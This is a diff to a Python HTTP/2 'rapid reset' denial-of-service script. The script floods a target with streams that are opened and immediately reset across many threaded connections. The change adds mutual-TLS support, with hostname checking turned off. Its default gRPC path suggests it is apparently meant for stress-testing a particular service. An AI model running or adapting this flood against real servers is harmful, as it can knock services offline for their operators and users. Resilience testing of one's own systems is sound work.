@@ -1,8 +1,10 @@
 """HTTP/2 rapid reset: opens streams and resets them at once, on some connections, for some seconds.
 
-rapid_reset.py HOST:PORT SECONDS CONNECTIONS [PATH]. Prints how many streams were sent and how often it was cut.
+rapid_reset.py HOST:PORT SECONDS CONNECTIONS [PATH [CA CERT KEY]]; with the last three over TLS. Prints how many
+streams were sent and how often it was cut.
 """
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -35,11 +37,34 @@ def frame(kind, flags, stream, payload):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def attack(address, until, path, counts):
+def connect(address, tls):
+    connection = socket.create_connection(address, timeout=1)
+    if tls is None:
+        return connection
+    try:
+        return tls.wrap_socket(connection)
+    except OSError:
+        connection.close()
+        raise
+
+
+def tls_of(words):
+    """A context that shows the certificate; whom it talks to does not matter here."""
+    if not words:
+        return None
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.load_verify_locations(words[0])
+    context.load_cert_chain(words[1], words[2])
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
+def attack(address, tls, until, path, counts):
     block = headers(path)
     while time.monotonic() < until:
         try:
-            with socket.create_connection(address, timeout=1) as connection:
+            with connect(address, tls) as connection:
                 connection.sendall(PREFACE)
                 stream = 1
                 while time.monotonic() < until and stream < 1 << 30:
@@ -60,9 +85,10 @@ def main():
     host, port = sys.argv[1].rsplit(":", 1)
     until = time.monotonic() + float(sys.argv[2])
     path = (sys.argv[4] if len(sys.argv) > 4 else "/c4.v1.C4d/StreamTelemetry").encode()
+    tls = tls_of(sys.argv[5:8])
     counts = {"streams": 0, "cut": 0}
     threads = [
-        threading.Thread(target=attack, args=((host, int(port)), until, path, counts))
+        threading.Thread(target=attack, args=((host, int(port)), tls, until, path, counts))
         for _ in range(int(sys.argv[3]))
     ]
     for thread in threads:
